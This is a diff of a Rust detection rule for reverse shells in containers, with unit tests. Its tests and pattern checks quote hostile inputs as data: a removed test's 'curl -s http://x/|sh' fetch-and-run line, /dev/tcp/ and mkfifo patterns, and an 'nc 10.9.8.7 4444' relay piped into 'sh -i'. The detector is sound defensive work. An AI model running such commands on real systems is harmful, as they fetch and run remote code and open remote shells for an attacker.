@@ -1,106 +1,251 @@
-//! Shells below servers that were there when watching began.
+//! Shells that were connected to the network when watching began.
 
-use super::server_shell::SUBJECT;
-use super::bare_shells::{bare, shell};
-use crate::detect::alert::{Alert, Alerts};
+use std::net::SocketAddr;
+
+use smallvec::SmallVec;
+
+use super::bare_shells::bare;
+use super::reverse_shell::{is_fetch, reverse_alert};
+use crate::catalog;
+use crate::detect::alert::Alerts;
+use crate::detect::memory::Outbound;
 use crate::detect::rule_context::RuleContext;
-use crate::detect::serving::inward;
-use crate::detect::{Severity, attribution, program_roles};
-use crate::event::Exec;
+use crate::detect::rule_memory::RuleMemory;
+use crate::detect::{attribution, program_roles};
+use crate::event::{Endpoint, Process, Protocol, Stream};
 use crate::state::{Direction, ProcessEntry};
 
-/// A shell below a server when watching began. Servers run tools by a shell, which may be under
-/// way just then: only a shell that waits for commands, or fetches something, counts.
-pub(super) fn found(ctx: &RuleContext<'_>, exec: &Exec) -> Alerts {
-    let waits = bare(ctx.names(), exec);
-    if shell(ctx.names(), exec).is_none()
-        || ctx.session().is_some()
-        || !(waits || fetches(ctx, exec))
-    {
-        return Alerts::none();
+/// Processes with pipes remembered of one container.
+const MAX_PIPED: usize = 512;
+
+/// Processes of a container that were found with pipes as their streams.
+#[derive(Debug, Clone, Default)]
+pub(super) struct Piped(Vec<PipedProcess>);
+
+#[derive(Debug, Clone)]
+struct PipedProcess {
+    pid: u32,
+    /// It takes its commands from its input.
+    waits: bool,
+    /// Inodes.
+    pipes: SmallVec<[u64; 3]>,
+}
+
+impl RuleMemory for Piped {
+    fn heap_bytes(&self) -> usize {
+        self.0.len() * size_of::<PipedProcess>()
     }
-    let Some(parent) = ctx.ancestors().nth(1) else {
+}
+
+pub(super) fn examine(ctx: &RuleContext<'_>, memory: &mut Piped, process: &Process) -> Alerts {
+    let pid = ctx.event.pid;
+    let exec = process.as_exec();
+    let waits = bare(ctx.names(), &exec) && !ctx.ancestors().any(attribution::lets_people_in);
+    let (shell, peer) = if waits {
+        (
+            pid,
+            own_peer(process).or_else(|| parents_peer(ctx, process)),
+        )
+    } else {
+        (pid, None)
+    };
+    let (shell, peer) = match peer {
+        Some(_) => (shell, peer),
+        None => by_pipe(ctx, memory, process, waits).map_or((pid, None), |(s, p)| (s, Some(p))),
+    };
+    remember(memory, pid, process, waits);
+    let Some(to) = peer else {
         return Alerts::none();
     };
-    if ctx.names().is_shell(program_roles::of(parent))
-        || attribution::lets_people_in(parent)
-        || !listens(ctx, parent)
-    {
-        return Alerts::none();
+    let out = Outbound {
+        to,
+        ts: ctx.now(),
+        seq: ctx.event.seq,
+    };
+    let entry = ctx.state.processes.get(&shell);
+    let command = entry.map_or_else(String::new, |p| {
+        program_roles::command_line(&p.argv, &p.exe, 160)
+    });
+    let mut alert = reverse_alert(ctx, &out, &command).follows(shell);
+    if shell != pid {
+        let relay = program_roles::command_line(&process.argv, &process.exe, 160);
+        alert = alert.reason(format!("fed through a pipe by: {relay}"));
     }
-    server_alert(ctx, parent, exec).into()
+    alert.into()
 }
 
-/// The text that the shell runs fetches something or opens a connection.
-fn fetches(ctx: &RuleContext<'_>, exec: &Exec) -> bool {
-    let word = |byte: &u8| !(byte.is_ascii_alphanumeric() || b"/._-".contains(byte));
-    exec.argv.iter().skip(1).any(|argument| {
-        let mut words = argument.split(word);
-        words.any(|word| {
-            let name = program_roles::leaf(word);
-            ctx.names().is_downloader(name)
-                || name == b"mkfifo"
-                || word.starts_with(b"/dev/tcp/")
-                || word.starts_with(b"/dev/udp/")
-        })
+fn remember(memory: &mut Piped, pid: u32, process: &Process, waits: bool) {
+    let pipes: SmallVec<[u64; 3]> = pipes(process).collect();
+    if !pipes.is_empty() && memory.0.len() < MAX_PIPED {
+        memory.0.push(PipedProcess { pid, waits, pipes });
+    }
+}
+
+fn pipes(process: &Process) -> impl Iterator<Item = u64> {
+    process.streams.iter().filter_map(|stream| match stream {
+        Stream::Pipe(inode) => Some(*inode),
+        _ => None,
     })
 }
 
-/// The process itself listens for connections, or is a worker of one of the same program that does.
-fn listens(ctx: &RuleContext<'_>, process: &ProcessEntry) -> bool {
-    let rows = ctx.state.connections_of(ctx.owner, Direction::Listening);
-    let mut holders = rows
-        .filter(|(key, row)| row.pid != 0 && !inward(key, row))
-        .map(|(_, row)| row.pid);
-    let line = ctx.state.ancestry(process.pid);
-    let own: Vec<u32> = line
-        .take_while(|above| above.exe == process.exe && above.owner == process.owner)
-        .map(|above| above.pid)
-        .collect();
-    holders.any(|holder| own.contains(&holder))
+/// The peer of a socket that is its input or output.
+fn own_peer(process: &Process) -> Option<SocketAddr> {
+    process.streams.iter().find_map(|stream| match stream {
+        Stream::Peer(peer) => Some(*peer),
+        _ => None,
+    })
 }
 
-fn server_alert(ctx: &RuleContext<'_>, parent: &ProcessEntry, exec: &Exec) -> Alert {
-    ctx.alert(Severity::High, SUBJECT, |explanation| {
-        let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
-        let parent_line = program_roles::command_line(&parent.argv, &parent.exe, 120);
-        explanation.title = format!("{} started a shell: {command}", parent.exe.escaped());
-        explanation
-            .why
-            .push(format!("its parent listens for connections: {parent_line}"));
-        explanation.why.push(format!("ran: {command}"));
+/// A relay or an interpreter above it is connected, and hands on what it reads.
+fn parents_peer(ctx: &RuleContext<'_>, process: &Process) -> Option<SocketAddr> {
+    // Somebody at a terminal of an exec session types himself.
+    let typed = ctx.session().is_some() && process.tty;
+    let fed = matches!(
+        process.streams.first(),
+        Some(Stream::Terminal | Stream::Pipe(_) | Stream::Socket)
+    );
+    if typed || !fed {
+        return None;
+    }
+    let parent = ctx.ancestors().nth(1)?;
+    let relays = catalog::programs::STREAM_TOOLS.contains(&program_roles::of(parent))
+        || attribution::inline(ctx.names(), parent);
+    if !relays {
+        return None;
+    }
+    let mut line = ctx.ancestors().skip(1).take(3);
+    line.find_map(|above| (above.exe == parent.exe).then(|| connected(ctx, above))?)
+}
+
+/// The peer that a process is connected to, of those that are not in the container itself.
+fn connected(ctx: &RuleContext<'_>, process: &ProcessEntry) -> Option<SocketAddr> {
+    let rows = ctx.state.connections_of(ctx.owner, Direction::Outbound);
+    let mut own = rows.filter(|(key, row)| {
+        row.pid == process.pid && row.open > 0 && key.protocol == Protocol::Tcp
+    });
+    own.find_map(|(key, _)| match key.endpoint {
+        Endpoint::Inet(to) if !to.ip().is_loopback() && to.port() != 53 => Some(to),
+        _ => None,
     })
-    .part(parent.exe.clone())
+}
+
+/// A shell that waits shares a pipe with a process that is connected: the shell, and the peer.
+/// Either of the two may have been found first.
+fn by_pipe(
+    ctx: &RuleContext<'_>,
+    memory: &Piped,
+    process: &Process,
+    waits: bool,
+) -> Option<(u32, SocketAddr)> {
+    let entry = ctx.process?;
+    let shares = |other: &&PipedProcess| pipes(process).any(|pipe| other.pipes.contains(&pipe));
+    let mut beside = memory.0.iter().filter(shares);
+    if waits {
+        return beside.find_map(|other| {
+            let other = ctx.state.processes.get(&other.pid)?;
+            let peer = relay(ctx, other)?;
+            Some((entry.pid, peer))
+        });
+    }
+    let peer = relay(ctx, entry)?;
+    let shell = beside.find(|other| other.waits)?;
+    Some((shell.pid, peer))
+}
+
+/// The peer of a process that relays: one that fetches is told by the rule on pipes.
+fn relay(ctx: &RuleContext<'_>, process: &ProcessEntry) -> Option<SocketAddr> {
+    if is_fetch(ctx, process.pid) {
+        return None;
+    }
+    connected(ctx, process)
 }
 
 #[cfg(test)]
+#[allow(clippy::unwrap_used)]
 mod tests {
     use crate::detect::Severity;
     use crate::detect::testkit::World;
+    use crate::event::Stream;
+
+    const PEER: &str = "10.9.8.7:4444";
+
+    fn sockets() -> Vec<Stream> {
+        vec![Stream::Peer(PEER.parse().unwrap()); 3]
+    }
 
     #[test]
-    fn a_shell_below_a_server_that_was_there_already() {
-        let below = |argv: &[&str]| {
-            let mut w = World::found();
-            let init = w.init();
-            w.found_socket(0, "0.0.0.0:80", None);
-            let web = w.found_process(init, "/usr/sbin/php-fpm", &["php-fpm"], |_| {});
-            let worker = w.found_process(web, "/usr/sbin/php-fpm", &["php-fpm"], |_| {});
-            w.found_process(worker, "/bin/sh", argv, |_| {});
-            w.all("exec.shell-spawned").first().map(|f| f.severity)
-        };
-        assert_eq!(below(&["sh"]), Some(Severity::High));
-        assert_eq!(below(&["sh", "-i"]), Some(Severity::High));
-        let fetches = &["sh", "-c", "cd /tmp; curl -s http://x/|sh"];
-        assert_eq!(below(fetches), Some(Severity::High));
-        assert_eq!(below(&["sh", "-c", "convert a.png b.png"]), None);
-        // A program beside the server, not the server, starts it.
+    fn a_shell_on_a_socket() {
         let mut w = World::found();
         let init = w.init();
-        w.found_socket(0, "0.0.0.0:80", None);
-        w.found_process(init, "/usr/bin/python3", &["python3", "app.py"], |_| {});
-        let other = w.found_process(init, "/usr/bin/python3", &["python3", "jobs.py"], |_| {});
-        w.found_process(other, "/bin/sh", &["sh"], |_| {});
+        w.found_process(init, "/bin/bash", &["bash", "-i"], |p| {
+            p.streams = sockets()
+        });
+        let f = w.finding("net.reverse-shell");
+        assert_eq!(f.severity, Severity::Critical);
+        assert!(f.already_since.is_some() && f.title.contains(PEER));
+        // A script that serves one connection, as below inetd, has its program with it.
+        let mut w = World::found();
+        let init = w.init();
+        w.found_process(init, "/bin/sh", &["sh", "/srv/serve.sh"], |p| {
+            p.streams = sockets();
+        });
         w.only(&[]);
+    }
+
+    #[test]
+    fn a_shell_behind_a_fifo_whichever_came_first() {
+        for relay_first in [true, false] {
+            let mut w = World::found();
+            let init = w.init();
+            let shell = |w: &mut World| {
+                w.found_process(init, "/bin/sh", &["sh", "-i"], |p| {
+                    p.streams = vec![Stream::Pipe(1), Stream::Pipe(2), Stream::Pipe(2)];
+                });
+            };
+            w.found_socket(u32::from(!relay_first), "10.0.0.2:50000", Some(PEER));
+            if !relay_first {
+                shell(&mut w);
+            }
+            w.found_process(init, "/usr/bin/nc", &["nc", "10.9.8.7", "4444"], |p| {
+                p.streams = vec![Stream::Pipe(2), Stream::Pipe(3), Stream::Other];
+            });
+            if relay_first {
+                shell(&mut w);
+            }
+            assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        }
+    }
+
+    #[test]
+    fn pipes_without_a_peer_and_terminals_of_people_are_silent() {
+        let mut w = World::found();
+        let init = w.init();
+        let piped = |n| vec![Stream::Pipe(n), Stream::Pipe(n + 1), Stream::Other];
+        w.found_socket(0, "10.0.0.2:50000", Some("10.0.0.3:5432"));
+        w.found_process(init, "/usr/bin/java", &["java", "-jar", "x"], |p| {
+            p.streams = piped(10);
+        });
+        // It shares no pipe with who is connected.
+        w.found_process(init, "/bin/sh", &["sh"], |p| p.streams = piped(20));
+        w.none("net.reverse-shell");
+        let mut w = World::found();
+        w.found_process(0, "/bin/bash", &["bash"], |p| {
+            p.tty = true;
+            p.streams = vec![Stream::Terminal; 3];
+        });
+        w.only(&["exec.session"]);
+    }
+
+    #[test]
+    fn an_interpreter_with_a_terminal_for_its_shell() {
+        let mut w = World::found();
+        let init = w.init();
+        w.found_socket(0, "10.0.0.2:50000", Some(PEER));
+        let python = w.found_process(init, "/usr/bin/python3", &["python3", "-c", "x"], |_| {});
+        w.found_process(python, "/bin/bash", &["/bin/bash"], |p| {
+            p.tty = true;
+            p.streams = vec![Stream::Terminal; 3];
+        });
+        w.only(&["net.reverse-shell"]);
     }
 }
